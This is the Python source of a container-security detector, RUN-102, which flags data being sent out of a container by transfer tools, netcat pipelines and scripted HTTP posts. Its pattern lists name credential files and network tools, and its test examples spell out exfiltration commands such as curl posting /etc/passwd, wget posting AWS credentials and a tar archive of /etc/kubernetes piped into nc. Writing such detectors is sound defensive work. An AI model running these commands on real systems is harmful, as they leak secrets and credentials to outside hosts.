"""RUN-102: data leaves a container by a transfer tool: uploads, copies to a remote host, archives piped into the network.

Calls of an interface with a literal body and scheduled backups by the image's own tools to their usual place are said softly
or not at all; secrets and whatever an intruder sends are not.
"""

from __future__ import annotations

import re

from periderm.engines.runtime import programs
from periderm.engines.runtime.judging import Context, Detector, Interest, Verdict
from periderm.engines.runtime.peers import Scope, scope_of_url
from periderm.engines.runtime.process import Process
from periderm.engines.runtime.scene import HOST, runs, scene
from periderm.engines.runtime.situation import Situation, called, code_readings, situation, tool_interest, words
from periderm.model.detector import DetectorSpec, Example
from periderm.model.event import EventFlag, EventKind
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

_TOOLS = words(
    """
    curl wget wget2 scp rsync sftp tftp ftp lftp ftpput ncftpput rclone mc aws s3cmd s5cmd gsutil azcopy croc transfer rcp
    smbclient megaput
    """
)
_SENDERS = words(
    """
    nc ncat netcat nc.openbsd nc.traditional socat telnet openssl curl wget ssh cryptcat xxd dbclient
    """
)
_COLLECTORS = words(
    """
    tar zip 7z 7za gzip bzip2 xz zstd cpio cat base64 xxd openssl gpg mysqldump pg_dump pg_dumpall mongodump redis-cli
    find dd env printenv
    """
)
_DUMPS = frozenset({"mysqldump", "pg_dump", "pg_dumpall", "mongodump"})
_SECRET = re.compile(
    r"/etc/(passwd|shadow|sudoers|kubernetes)|\.ssh|id_(rsa|ed25519|ecdsa)|serviceaccount|/proc/\w*/environ|\.aws|\.kube|"
    r"credentials?|\.env\b|\.pgpass|\.git-credentials|\.docker/config|shadow|\.pem\b|\.key\b|/root\b|secrets?\b|wallet|token"
)
_FORM = re.compile(
    r"-F|--form|--form-string|-d|--data|--data-binary|--data-raw|--data-urlencode|--json|-T|--upload-file|-[a-zA-Z]*[TFd]"
)
_REMOTE = re.compile(r"(?:[\w.-]+@)?(?:\[[0-9a-fA-F:]+\]|[\w-]+(?:\.[\w-]+)*):(?!//)\S*|rsync://.*")
_CODE = re.compile(
    r"requests\.(post|put)|urlopen\(.{0,200}data|http\.client|\.storbinary|file_get_contents\(.{0,80}['\"]POST|Net::HTTP::Post|"
    r"multipart|\.sendall\(\s*open\(|->(post|put)\(|sendfile\("
)
_READS = re.compile(r"\bopen\(|readFile|file_get_contents|File\.read|os\.environ|ENV\b|glob\(")
_MOST = 4


def _judge(context: Context) -> Verdict | None:
    if context.event.kind is not EventKind.EXEC or context.process.runtime:
        return None
    found = _sent(context) or _coded(context)
    if found is None or found[0] in ("-", "@-", ".", ""):
        found = _piped(context) or found
    if found is None:
        return None
    what, target = found
    severity = _severity(context, what, target)
    if severity is None:
        return None
    return Verdict(
        object=target or context.command.name,
        severity=severity,
        fill={"what": what[:120], "target": target[:120] or "?"},
        evidence={"what": what[:300], "situation": situation(context).value},
    )


def _sent(context: Context) -> tuple[str, str] | None:  # noqa: PLR0911 -- one return for each way out
    """What a transfer tool is told to send, and where."""
    what = context.command
    names = _TOOLS.intersection(called(context))
    if not names:
        return None
    arguments = what.arguments
    url = next((a for a in arguments if "://" in a), "")
    if names & {"curl"}:
        return _curl(arguments, url)
    if names & {"wget", "wget2"}:
        sent = next((a for a in arguments if a.startswith(("--post-file", "--body-file"))), "")
        return (sent.partition("=")[2] or sent, url) if sent else None
    words = [a for a in arguments if not a.startswith("-")]
    if names & {"scp", "rsync", "rcp"}:
        # A copy between two own places, or from outside to here, is none of this.
        return (
            (words[-2], words[-1])
            if len(words) > 1 and _REMOTE.fullmatch(words[-1]) and not _REMOTE.fullmatch(words[-2])
            else None
        )
    if names & {"tftp"}:
        return (" ".join(arguments), words[0]) if any(a == "put" or (a[:1] == "-" and "p" in a) for a in arguments) else None
    if names & {"ftpput", "ncftpput", "croc", "megaput"}:
        return (" ".join(words), words[0] if words else "")
    verb = next((w for w in words if w in ("cp", "sync", "put", "copy", "mv", "move", "copyto", "mirror", "pipe")), "")
    if verb and words and (":" in words[-1] or "://" in words[-1] or names & {"mc"}):
        return " ".join(words[-2:-1]), words[-1]
    return None


def _curl(arguments: tuple[str, ...], url: str) -> tuple[str, str] | None:
    for index, argument in enumerate(arguments):
        option, _, attached = argument.partition("=") if argument.startswith("--") else (argument, "", "")
        if not _FORM.fullmatch(option):
            continue
        value = attached or (arguments[index + 1] if index + 1 < len(arguments) else "")
        if option in ("-T", "--upload-file") or (option[:2] != "--" and option.endswith("T")):
            return value, url
        if "@" in value[:1] or "=@" in value or "=<" in value or (_SECRET.search(value) and "/" in value):
            return value, url
        if len(value) > 400:
            return "data", url
    return None


def _piped(context: Context) -> tuple[str, str] | None:
    """`tar c … | nc host port` and its kin, whichever end was started last."""
    acting: Process | None = context.process
    for _ in range(_MOST):  # to the end of the pipeline
        if acting is None or programs.command(acting.exe, acting.argv).name in _SENDERS:
            break
        acting = context.fed_of(acting) if programs.command(acting.exe, acting.argv).name in _COLLECTORS else None
    if acting is None or programs.command(acting.exe, acting.argv).name not in _SENDERS:
        return None
    sender, chain, collects = programs.command(acting.exe, acting.argv), 0, ""
    process = context.feeder_of(acting)
    for _ in range(_MOST):
        what = programs.command(process.exe, process.argv) if process is not None else None
        if process is None or what is None or what.name not in _COLLECTORS:
            break
        chain += 1
        collects = " ".join((what.name, *(a for a in what.arguments if not a.startswith("-"))))
        process = context.feeder_of(process)
    words_ = [a for a in sender.arguments if not a.startswith("-")]
    target = next((w for w in words_ if "." in w or ":" in w), words_[0] if words_ else "")
    return (collects, target) if chain else None


def _coded(context: Context) -> tuple[str, str] | None:
    what = context.command
    if not programs.interpreter(what.name) or programs.script(what):
        return None
    for text in code_readings(context):
        if _CODE.search(text) and _READS.search(text):
            url = re.search(r"https?://[\w.:\[\]-]+", text)
            secret = _SECRET.search(text)
            return f"code {secret[0]}" if secret is not None else "code", url[0] if url is not None else ""
    return None


def _severity(context: Context, what: str, target: str) -> Severity | None:
    here, near = situation(context), scope_of_url(target)
    secret = bool(_SECRET.search(what)) and what.split(" ", maxsplit=1)[0] not in _DUMPS
    if here is Situation.INTRUDER:
        return Severity.HIGH
    if here is Situation.HOST:
        return Severity.MEDIUM if secret and near in (Scope.OUTSIDE, Scope.NAME) and "://" in target else None
    if secret:
        return Severity.MEDIUM if here is Situation.BUILD else Severity.HIGH
    if here is Situation.BUILD or near is Scope.SELF:
        return None
    if here is Situation.SESSION:
        return Severity.MEDIUM
    return Severity.LOW if near is not Scope.NEAR else None


_SESSION = EventFlag.EXEC_SESSION

DETECTOR = Detector(
    spec=DetectorSpec(
        id="RUN-102",
        title=Text("Send data out of a container", "从容器向外发送数据"),
        message=Text("{process} sends {what} from {subject} to {target}.", "{process} 把 {what} 从 {subject} 发往 {target}。"),
        severity=Severity.MEDIUM,
        maturity=Maturity.INCUBATING,
        remediation=Text(
            "Find out what was sent; change secrets that were in it. Let the container reach only the addresses that it needs.",
            "查明发送了什么；其中若有密钥，请立即更换。只允许容器访问必要的地址。",
        ),
        techniques=("T1048", "T1020", "T1567"),
        behaviours=(46,),
        fires=(
            Example(
                scene(runs(2, 900, "/usr/bin/curl", "curl", "-F", "f=@/etc/passwd", "http://10.9.9.9/", flags=_SESSION)),
                "a form",
            ),
            Example(
                scene(runs(2, 1, "/usr/bin/wget", "wget", "--post-file=/root/.aws/credentials", "h.example")),
                "wget posts a file",
            ),
            Example(
                scene(runs(2, 900, "/usr/bin/curl", "c", "-sT", "/srv/db.tgz", "http://h.example/", flags=_SESSION)), "curl -T"
            ),
            Example(
                scene(
                    runs(2, 1, "/bin/busybox", "tar", "cz", "/etc/kubernetes", pipes=(0, 5)),
                    runs(3, 1, "/bin/busybox", "nc", "10.1.2.3", "99", pipes=(5, 0)),
                ),
                "an archive is piped into busybox nc: two processes",
            ),
            Example(
                scene(
                    runs(
                        2,
                        900,
                        "/usr/bin/python3.11",
                        "python3",
                        "-c",
                        "import requests;requests.post('http://h.example',files={'f':open('/srv/x','rb')})",
                        flags=_SESSION,
                    )
                ),
                "Python posts a file",
            ),
            Example(
                scene(runs(20, 1, "/usr/bin/curl", "curl", "-d", "@/etc/shadow", "http://h.example/", on=HOST)), "on the host"
            ),
        ),
        quiet=(
            Example(scene(runs(2, 1, "/usr/bin/curl", "curl", "-d", '{"a":1}', "http://api.svc/x")), "an interface is called"),
            Example(
                scene(
                    runs(2, 1, "/usr/bin/pg_dump", "pg_dump", "shop", pipes=(0, 4)),
                    runs(3, 1, "/usr/bin/gzip", "gzip", pipes=(4, 5)),
                ),
                "a dump that stays here",
            ),
            Example(
                scene(runs(2, 1, "/usr/bin/rsync", "rsync", "-a", "/data", "backup.svc:/b")),
                "a backup inside the cluster, by a name",
            ),
            Example(scene(runs(20, 1, "/usr/bin/scp", "scp", "a.txt", "me@h.example:", on=HOST)), "a person copies a file"),
        ),
    ),
    interests=(
        tool_interest(_TOOLS | _SENDERS | _COLLECTORS),
        Interest(
            kinds=(EventKind.EXEC,),
            args=(r"requests\.(post|put)|urlopen|http\.client|storbinary|POST|multipart|sendall|->post",),
        ),
    ),
    judge=_judge,
)
